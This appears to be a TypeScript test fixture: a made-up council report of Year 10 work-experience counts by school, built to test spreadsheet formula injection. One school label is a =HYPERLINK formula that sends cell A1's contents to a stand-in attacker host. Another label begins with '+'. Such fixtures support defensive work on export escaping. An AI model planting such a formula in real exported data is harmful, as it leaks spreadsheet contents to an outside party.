import type { ReportTable } from './rules.ts'

/** A made-up report whose school names attack the spreadsheets that show them. */
export const REPORT: ReportTable = {
  title: 'Work experience by school: Year 10',
  subtitle: 'students in Year 10 by the stage of their work experience.',
  asOf: '2027-06-14',
  academicYear: '2026 to 2027',
  columns: ['Not started', 'Confirmed', 'Completed'],
  rows: [
    { label: 'Larkmeadow “High” School', counts: [12, 'c', 'c'], total: 40 },
    { label: '=HYPERLINK("https://evil.example?"&A1,"Open")', counts: [8, 9, 33], total: 50 },
    { label: '+44 Academy, "Staithe"', counts: [20, 'c', 'c'], total: 30 },
  ],
  totals: [40, 19, 1061],
  total: 1120,
  notes: ['Students who left during the year are not counted.'],
  council: { name: 'Fenland County Council', department: 'Children’s Services', serviceName: 'Work experience' },
}
